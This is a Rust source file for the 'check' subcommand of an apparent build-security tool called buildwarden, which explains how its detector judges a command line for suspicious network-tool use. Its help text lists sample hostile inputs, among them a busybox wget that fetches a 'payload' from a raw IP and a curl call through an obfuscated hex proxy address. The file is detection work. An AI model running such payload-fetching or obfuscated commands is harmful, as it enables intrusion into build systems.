//! `buildwarden check`: what the detector says of a command line, and why.

mod batch;

use super::Exit;
use crate::config::Settings;
use crate::detect::{Allowed, Context, Detector, Finding, Importance, Reading};
use crate::escape::visible;
use crate::event::{Argv, Exec};
use crate::report::{Bytes, json};
use anyhow::Context as _;
use serde::Serialize;
use std::ffi::OsString;
use std::fmt::Write as _;
use std::io::Write as _;
use std::os::unix::ffi::OsStrExt as _;
use std::path::{Path, PathBuf};

/// Says what the detector makes of a command line, and why
///
/// Nothing is executed. Recipes and policy are those of the configuration. The command's first word is taken for the program and for argv[0];
/// --exe says which file is executed when that is another.
#[derive(Debug, clap::Args)]
#[command(after_help = "\
Examples:
  buildwarden check -- curl -sSfLkx0x0A000001:80 https://example.com/
  buildwarden check --exe /bin/busybox -- wget http://198.51.100.7/payload
  buildwarden check --json -- ssh -J u@192.0.2.1 build.example.com | jq .findings
  buildwarden check --batch execs.jsonl > verdicts.jsonl

A line of a batch is {\"id\",\"exe\",\"argv\"}; other fields are ignored. Its answer is
{\"id\",\"verdict\",\"tool\",\"addresses\"}, or {\"id\":null,\"error\"} when it cannot be read.

Exit codes:
  0   answered, whatever the verdict
  1   the batch could not be read, or the output could not be written
  12  some lines of the batch were malformed; the others were answered")]
pub(super) struct Args {
    /// Judge the lines of FILE (- is standard input), one exec each
    #[arg(long, value_name = "FILE", conflicts_with_all = ["command", "exe", "json"])]
    batch: Option<PathBuf>,
    /// The recipe whose verdict a batch asks for
    #[arg(
        long,
        value_name = "NAME",
        default_value = "net_suspicious_tool_exec",
        requires = "batch"
    )]
    recipe: String,
    /// The file that is executed, links resolved
    #[arg(long, value_name = "PATH")]
    exe: Option<PathBuf>,
    /// The job that the policy's rules are asked about
    #[arg(long, value_name = "JOB")]
    job: Option<String>,
    /// Write the answer as JSON
    #[arg(long)]
    json: bool,
    /// The command line
    #[arg(last = true, value_name = "CMD", required_unless_present = "batch")]
    command: Vec<OsString>,
}

pub(super) fn run(args: Args, config: Option<&Path>) -> anyhow::Result<Exit> {
    let settings = Settings::load(config)?;
    let detector = crate::collect::detector(&settings).map_err(anyhow::Error::msg)?;
    if let Some(file) = args.batch {
        return batch::run(&detector, &args.recipe, args.job.as_deref(), &file);
    }
    let mut argv = Vec::new();
    for word in &args.command {
        argv.extend_from_slice(word.as_bytes());
        argv.push(0);
    }
    let program = args.command.first().map_or(&[][..], |word| word.as_bytes());
    let path = args.exe.as_ref().map_or(program, |path| path.as_os_str().as_bytes());
    let exec = Exec {
        path,
        name: program,
        argv: Argv(&argv),
        argv_len: argv.len() as u64,
        ..Exec::default()
    };
    let answer = Answer::new(&detector, &exec, args.job.as_deref());
    if args.json {
        let text = json::pretty(&answer.as_json()).context("the answer as JSON")?;
        std::io::stdout().write_all(text.as_bytes()).context("standard output")?;
    } else {
        anstream::stdout().write_all(answer.text().as_bytes()).context("standard output")?;
    }
    Ok(Exit::Success)
}

/// What is said of one command line.
struct Answer<'a> {
    tool: Option<(String, &'static str)>,
    findings: Vec<Finding>,
    allowed: Vec<Allowed>,
    reading: Reading,
    argv: Vec<&'a [u8]>,
}

impl<'a> Answer<'a> {
    fn new(detector: &Detector, exec: &Exec<'a>, job: Option<&str>) -> Answer<'a> {
        let judgement = detector.judge(exec, &Context { now: jiff::Timestamp::now(), job });
        Answer {
            tool: detector.tool(exec).map(|tool| (tool.name, tool.matched_by.name())),
            findings: judgement.findings,
            allowed: judgement.allowed,
            reading: detector.explain(exec),
            argv: exec.argv.iter().collect(),
        }
    }

    fn verdict(&self) -> &'static str {
        let highest = self.findings.iter().map(|finding| finding.importance).max();
        highest.map_or("none", Importance::name)
    }

    /// For a person.
    fn text(&self) -> String {
        let mut text = String::new();
        let argv: Vec<_> = self.argv.iter().map(|argument| visible(argument)).collect();
        let _ = writeln!(text, "{}", argv.join(" "));
        let _ = match &self.tool {
            Some((tool, signal)) => {
                writeln!(text, "verdict: {} — {tool} (by its {signal})", self.verdict())
            }
            None if self.findings.is_empty() => writeln!(text, "verdict: none — no network tool"),
            None => writeln!(text, "verdict: {}", self.verdict()),
        };
        for finding in &self.findings {
            let _ = writeln!(
                text,
                "\n{} [{}, {}]",
                finding.description,
                finding.recipe,
                finding.importance.name()
            );
            for address in &finding.addresses {
                let stood = visible(&address.text);
                let written = if stood == address.address {
                    String::new()
                } else {
                    format!(", written {stood}")
                };
                let _ = writeln!(
                    text,
                    "  {}{written}: {}, {}, argv[{}]",
                    address.address, address.role, address.scope, address.argument
                );
            }
            if finding.more_addresses > 0 {
                let _ = writeln!(text, "  and {} more addresses", finding.more_addresses);
            }
            for shell in &finding.shells {
                let _ = writeln!(
                    text,
                    "  {}: {}, argv[{}]",
                    visible(&shell.text),
                    shell.role,
                    shell.argument
                );
            }
        }
        for allowed in &self.allowed {
            let address =
                allowed.address.as_ref().map_or("any address", |address| &address.address);
            let _ = writeln!(text, "\nallowed: {address} ({})", visible(allowed.reason.as_bytes()));
        }
        if self.tool.is_some() {
            let _ = writeln!(text, "\nhow it was read:");
            for line in self.reading.lines() {
                let _ = writeln!(text, "  {line}");
            }
        }
        text
    }

    /// For a program.
    fn as_json(&self) -> AnswerJson<'_> {
        AnswerJson {
            verdict: self.verdict(),
            tool: self.tool.as_ref().map(|(name, matched_by)| ToolJson { name, matched_by }),
            findings: self.findings.iter().map(FindingJson::from).collect(),
            allowed: self
                .allowed
                .iter()
                .map(|allowed| AllowedJson {
                    address: allowed.address.as_ref().map(AddressJson::from),
                    reason: &allowed.reason,
                })
                .collect(),
            reading: self.reading.arguments.iter().map(ArgumentJson::from).collect(),
            more_arguments: self.reading.more,
        }
    }
}

#[derive(Serialize)]
struct AnswerJson<'a> {
    verdict: &'a str,
    tool: Option<ToolJson<'a>>,
    findings: Vec<FindingJson<'a>>,
    allowed: Vec<AllowedJson<'a>>,
    reading: Vec<ArgumentJson<'a>>,
    more_arguments: usize,
}

#[derive(Serialize)]
struct ToolJson<'a> {
    name: &'a str,
    matched_by: &'a str,
}

#[derive(Serialize)]
struct FindingJson<'a> {
    recipe: &'a str,
    importance: &'a str,
    addresses: Vec<AddressJson<'a>>,
    more_addresses: usize,
    shells: Vec<ShellJson<'a>>,
}

#[derive(Serialize)]
struct AddressJson<'a> {
    address: &'a str,
    text: Bytes,
    argument: usize,
    span: Option<[usize; 2]>,
    role: &'a str,
    scope: &'a str,
}

#[derive(Serialize)]
struct ShellJson<'a> {
    text: Bytes,
    argument: usize,
    role: &'a str,
}

#[derive(Serialize)]
struct AllowedJson<'a> {
    address: Option<AddressJson<'a>>,
    reason: &'a str,
}

#[derive(Serialize)]
struct ArgumentJson<'a> {
    argument: usize,
    text: Bytes,
    depth: usize,
    option: Option<Bytes>,
    is: &'a str,
    addresses: &'a [String],
    because: &'a str,
}

impl<'a> From<&'a Finding> for FindingJson<'a> {
    fn from(finding: &'a Finding) -> Self {
        FindingJson {
            recipe: &finding.recipe,
            importance: finding.importance.name(),
            addresses: finding.addresses.iter().map(AddressJson::from).collect(),
            more_addresses: finding.more_addresses,
            shells: finding
                .shells
                .iter()
                .map(|shell| ShellJson {
                    text: shell.text.clone().into(),
                    argument: shell.argument,
                    role: &shell.role,
                })
                .collect(),
        }
    }
}

impl<'a> From<&'a crate::detect::Address> for AddressJson<'a> {
    fn from(address: &'a crate::detect::Address) -> Self {
        AddressJson {
            address: &address.address,
            text: address.text.clone().into(),
            argument: address.argument,
            span: address.span.as_ref().map(|span| [span.start, span.end]),
            role: &address.role,
            scope: &address.scope,
        }
    }
}

impl<'a> From<&'a crate::detect::Argument> for ArgumentJson<'a> {
    fn from(argument: &'a crate::detect::Argument) -> Self {
        ArgumentJson {
            argument: argument.argument,
            text: argument.text.clone().into(),
            depth: argument.depth,
            option: argument.option.clone().map(Bytes::from),
            is: &argument.is,
            addresses: &argument.addresses,
            because: &argument.because,
        }
    }
}
